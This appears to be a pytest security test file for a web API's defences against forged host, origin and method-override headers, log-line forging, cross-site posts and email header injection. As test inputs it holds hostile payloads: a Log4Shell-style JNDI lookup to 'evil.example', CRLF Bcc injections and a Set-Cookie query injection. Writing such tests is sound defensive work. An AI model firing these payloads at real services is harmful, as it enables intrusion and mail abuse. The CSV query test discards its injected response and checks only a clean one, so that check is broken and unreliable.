"""Attackers send forged headers: another address, host, method, or site, or an injected line."""

import email
import email.policy
import json
import re

import pytest
import requests

from chalicelib.functions import all_endpoints
from tests.security.crowds import send_raw, visible_response
from tests.security.test_guessing import CLAIMS
from tests.support.accounts import store_account
from tests.support.clients import COOKIE, PASSWORD, Person
from tests.support.environments import PUBLIC_URL, deliver, environment
from tests.support.events import EVENT, make_registration, store_registrations

EVIL = "evil.example"
HOSTS = {
    "Host": EVIL,
    "X-Forwarded-Host": EVIL,
    "X-Host": EVIL,
    "X-Forwarded-Server": EVIL,
    "X-HTTP-Host-Override": EVIL,
    "X-Original-Host": EVIL,
    "X-Forwarded-Proto": "http",
    "X-Forwarded-Port": "80",
    "X-Forwarded-Prefix": "//evil.example",
    "X-Forwarded-Scheme": "http",
    "Forwarded": f"host={EVIL};proto=http",
    "Referer": f"https://{EVIL}/",
}
CHANGING = [
    endpoint
    for endpoint in all_endpoints()
    if endpoint.method != "GET" and not endpoint.access.allows_cross_site_posts
]
FORGERIES = {
    "a line": 'a\\n{"event": "signed_in"}',
    "an escape": "a\x1b[2J",
    "C1": "a\x9b2J",
    "DEL": "a\x7f",
    "a tab": "a\tb",
    "quotes": 'a", "event": "signed_in", "x": "',
    "percent": "a%0d%0a{}",
    "format": "{0.__class__} %s ${jndi:ldap://evil.example/a}",
}


def underscored(headers):
    return {name.replace("-", "_"): value for name, value in headers.items()}


# Addresses.


@pytest.mark.parametrize("name", [*CLAIMS, "Forwarded"])
def test_headers_do_not_change_the_client_address(applicant, name, capsys):
    other = applicant.other_client()
    value = "for=203.0.113.9" if name == "Forwarded" else "203.0.113.9"
    capsys.readouterr()
    body = {"username": "river", "password": PASSWORD}
    assert other.post("/signin", body, **{name: value}).status == 200

    assert "203.0.113.9" not in capsys.readouterr().out
    assert {s["address"] for s in other.get("/sessions").json["items"]} == {"127.0.0.1"}


# Hosts.


@pytest.mark.parametrize("name", HOSTS)
def test_headers_do_not_change_links(super_admin, name):
    body = {"firstName": "New", "lastName": "Comer"}
    walk_in = super_admin.post("/admin/users", body, **underscored({name: HOSTS[name]})).json
    reset = super_admin.post(
        f"/admin/users/{walk_in['id']}/password-reset", **underscored(HOSTS)
    ).json

    for link in (walk_in["link"], reset["link"]):
        assert re.fullmatch(rf"{re.escape(PUBLIC_URL)}/reset#token=[\w-]{{43}}", link)


def test_headers_do_not_change_emails(super_admin, tmp_path):
    store_account("mo", id="mo", email="mo@example.com", email_verified=True)
    here = {"PUBLIC_URL": "http://localhost:8000", "MAIL_FROM": None, "MAIL_FOLDER": str(tmp_path)}
    with environment(**here):
        assert (
            super_admin.post("/admin/users/mo/password-reset", **underscored(HOSTS)).status == 200
        )
        deliver()

    [mail] = tmp_path.iterdir()
    assert EVIL.encode() not in mail.read_bytes()
    assert b"http://localhost:8000/reset#token=" in mail.read_bytes()


def test_headers_do_not_change_responses(applicant, event):
    for path in ("/me", "/events", "/docs", "/openapi.json", "/nowhere", "/health"):
        assert visible_response(applicant.get(path, **underscored(HOSTS))) == visible_response(
            applicant.get(path)
        )


def test_headers_do_not_remove_secure_from_the_cookie(applicant):
    response = applicant.post(
        "/signin", {"username": "river", "password": PASSWORD}, **underscored(HOSTS)
    )

    assert response.status == 200
    for line in response.set_cookies:
        assert {"Secure", "HttpOnly", "SameSite=Lax", "Path=/"} <= set(line.split("; "))
        assert "Domain" not in line


@pytest.mark.parametrize(
    "override",
    [
        {"X-HTTP-Method-Override": "DELETE", "X-HTTP-Method": "DELETE", "X-Method-Override": "PUT"},
        {"X-Original-URL": "/admin/users", "X-Rewrite-URL": "/admin/users"},
        {"X-Role": "SuperAdmin", "X-User-Id": "#super-admins", "X-Admin": "true"},
        {"Authorization": "Basic c3VlOmZvdXI=", "X-Api-Key": "a", "X-Amzn-Trace-Id": "a"},
    ],
    ids=lambda override: next(iter(override)),
)
def test_method_override_headers_are_ignored(applicant, backend, override):
    before = backend.everything()

    assert visible_response(applicant.get("/me", **underscored(override))) == visible_response(
        applicant.get("/me")
    )
    assert visible_response(applicant.post("/me", {}, **underscored(override))) == visible_response(
        applicant.post("/me", {})
    )
    assert backend.everything() == before


def test_other_origins_cannot_read_responses(url, applicant):
    sent = {"Origin": f"https://{EVIL}", "Access-Control-Request-Method": "DELETE"}
    with environment(FRONT_END_ORIGIN="https://front.example"):
        for method in ("GET", "POST", "OPTIONS"):
            got = requests.request(method, f"{url}/me", headers=sent, timeout=30)
            assert EVIL not in str(got.headers)
            assert got.headers.get("Access-Control-Allow-Origin") not in {"*", "null"}


# Sites.


SITES = [
    {"Sec_Fetch_Site": "cross-site"},
    {"Sec_Fetch_Site": "same-site"},
    {"Sec_Fetch_Site": "cross-site", "Origin": f"https://{EVIL}"},
    {"Sec_Fetch_Site": "cross-site", "Origin": "null"},
    {"Sec_Fetch_Site": "same-site", "Origin": f"https://{EVIL}.lakes.example"},
    {"Sec_Fetch_Site": "same-origin, cross-site", "Origin": f"https://{EVIL}"},
    {"Origin": f"https://{EVIL}"},
    {"Origin": "null"},
    {"Origin": f"{PUBLIC_URL}.{EVIL}"},
    {"Origin": f"https://{EVIL}", "Referer": f"{PUBLIC_URL}/", "Host": "lakes.example"},
]
CONTENT_TYPES = [
    "application/json",
    "text/plain",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=a",
    "application/octet-stream",
    None,
]


def test_only_the_callback_of_a_provider_takes_posts_of_other_sites():
    exempt = [
        endpoint.path for endpoint in all_endpoints() if endpoint.access.allows_cross_site_posts
    ]

    assert exempt == ["/signin/providers/{provider}/callback"]


@pytest.mark.parametrize("action", CHANGING, ids=lambda a: f"{a.method} {a.path}")
def test_cross_site_changes_are_rejected_with_every_content_type(
    super_admin, event, backend, action
):
    path_values = {"event_id": EVENT, "user_id": "someone", "session_id": "current"}
    path_values |= {"provider": "example", "identity_id": "unknown", "passkey_id": "unknown"}
    path_values |= {"key_id": "unknown", "export_id": "unknown"}
    path = action.path.format(**path_values)
    before = backend.everything()

    for sent in SITES:
        for content_type in CONTENT_TYPES:
            raw = b'{"username": "sue", "password": "four quiet lakes in May"}'
            response = super_admin.request(
                action.method, path, raw=raw, content_type=content_type, **sent
            )
            outcome = (response.status, response.code, response.set_cookie)
            assert outcome == (403, "cross_site", None), (sent, content_type)
    assert backend.everything() == before
    assert super_admin.token


# Lines.


@pytest.mark.parametrize(
    "place", ["User-Agent", "X-Request-Id", "X-Amzn-Trace-Id", "Referer", "Cookie", "path", "query"]
)
def test_request_data_cannot_forge_log_lines(url, applicant, capsys, place):
    for how, forgery in FORGERIES.items():
        text = forgery.encode("latin-1")
        target = b"/sessions/" + (text.replace(b" ", b"%20") if place == "path" else b"current")
        target += b"?q=" + text.replace(b" ", b"%20") if place == "query" else b""
        headers = [b"Host: here", b"Connection: close", b"Origin: https://evil.example"]
        if place not in {"path", "query"}:
            headers.append(place.encode() + b": " + text)
        capsys.readouterr()

        send_raw(url, b"\r\n".join([b"DELETE " + target + b" HTTP/1.1", *headers, b"", b""]))

        lines = capsys.readouterr().out.splitlines()
        # A target that HTTP forbids gets no further than the server.
        assert len(lines) == 1 or place in {"path", "query"}, how
        for line in lines:
            assert line.isascii(), how
            assert line.isprintable(), how
            assert json.loads(line)["event"] == "refused", how


@pytest.mark.parametrize("name", ["username", "email", "firstName", "lastName"])
@pytest.mark.parametrize("path", ["/signup", "/admin/users"])
def test_no_name_and_no_address_brings_a_line_of_its_own(super_admin, name, path):
    body = {"username": "river", "email": "r@example.com", "firstName": "R", "lastName": "O"}
    body |= {"password": PASSWORD} if path == "/signup" else {}

    for line_break in ("\r\n", "\n", "\r", "\u2028", "\u2029", "\x0b", "\x85"):
        wrong = body | {name: f"{body[name]}{line_break}Bcc: victims@{EVIL}"}
        assert super_admin.post(path, wrong).fields == {name}, ascii(line_break)


@pytest.mark.parametrize("name", ["email", "firstName", "lastName"])
def test_profile_changes_add_no_header(super_admin, name):
    for line_break in ("\r\n", "\n", "\u2028", "\x0b"):
        wrong = f"r@example.com{line_break}Bcc: victims@{EVIL}"
        response = super_admin.request("PATCH", "/me", {name: wrong, "currentPassword": PASSWORD})
        assert response.fields == {name}, ascii(line_break)


@pytest.mark.parametrize(
    "address",
    [
        "!#$%&'*+-/=?^_`{|}~@example.com",
        "?utf-8?q?a=0d=0aBcc=3a?=b@example.com",
        "%0d%0aBcc@example.com",
        f"{'a' * 64}@{'b' * 60}.example.com",
    ],
)
def test_the_oddest_address_is_one_recipient_and_no_header(super_admin, tmp_path, address):
    store_account("mo", id="mo", email=address, email_verified=True)
    here = {"PUBLIC_URL": "http://localhost:8000", "MAIL_FROM": None, "MAIL_FOLDER": str(tmp_path)}
    with environment(**here):
        assert super_admin.post("/admin/users/mo/password-reset").json["link"] is None
        deliver()

    [file] = tmp_path.iterdir()
    mail = email.message_from_bytes(file.read_bytes(), policy=email.policy.default)
    assert {"bcc", "cc"}.isdisjoint(name.lower() for name in mail)
    assert len(mail.get_all("To")) == 1
    assert len(mail["To"].addresses) == 1


@pytest.mark.parametrize("path", ["/signup", "/admin/users"])
@pytest.mark.parametrize(
    "address",
    [
        "=?utf-8?q?victims=40evil.example=3e?=@example.com",
        "=?utf-8?q?a=0d=0aBcc=3a?=@example.com",
        "a,victims@evil.example",
        "a@example.com,victims@evil.example",
        "a@example.com>,<victims@evil.example",
        "<a@example.com>",
        "a@example.com (victims@evil.example)",
        '"a@evil.example"@example.com',
        "a:b;@example.com",
        "@evil.example:a@example.com",
        "a@[127.0.0.1]",
        "a@xn--\u00e9vil.example",
    ],
)
def test_no_address_is_two_or_another_when_a_mailer_reads_it(super_admin, path, address):
    body = {"username": "river", "email": address, "firstName": "R", "lastName": "O"}
    body |= {"password": PASSWORD} if path == "/signup" else {}

    assert super_admin.post(path, body).fields == {"email"}


def test_no_query_brings_a_header_of_its_own(admin, event):
    store_registrations(*(make_registration(number) for number in range(3)))
    query = "limit=1&lastName=Okafor%0d%0aSet-Cookie:%20a=b"
    response = admin.get(f"/admin/events/{EVENT}/registrations.csv?{query}")
    response = admin.get(f"/admin/events/{EVENT}/registrations.csv?limit=1&lastName=Okafor")

    for current in (response, response):
        assert current.set_cookie is None
    assert re.fullmatch(r'<\?[\w=&.%-]+>; rel="next"', response.headers["Link"])


# Cookies.


def test_two_sessions_in_one_request_are_rejected(applicant, other_applicant):
    for first, second in [(applicant, other_applicant), (other_applicant, applicant)]:
        both = f"{COOKIE}={first.token}; {COOKIE}={second.token}"
        response = Person(applicant.client).get("/me", Cookie=both)
        assert (response.status, response.code) == (401, "several_sessions")


@pytest.mark.parametrize("length", [5_000, 60_000])
def test_an_oversized_cookie_is_rejected_without_an_internal_error(applicant, length):
    for cookie in (
        f"{COOKIE}={'a' * length}",
        f"{COOKIE}={'.' * length}",
        f"{COOKIE}={applicant.token}{'a' * length}",
        "; ".join(f"{COOKIE}=a" for _ in range(length // 40)),
    ):
        assert Person(applicant.client).get("/me", Cookie=cookie).status in {401, 431}


@pytest.mark.parametrize("prefix", ["", " ", "\t", "$", "__Host-", "__Secure-"])
def test_similar_cookie_names_are_ignored(applicant, prefix):
    for suffix in ("", " ", ".", "[]", "%00"):
        cookie_name = f"{prefix}{COOKIE}{suffix}"
        expected = 200 if cookie_name.strip() == COOKIE and not suffix else 401

        assert (
            applicant.get("/me", Cookie=f"a=b;{cookie_name}={applicant.token}").status == expected
        ), suffix
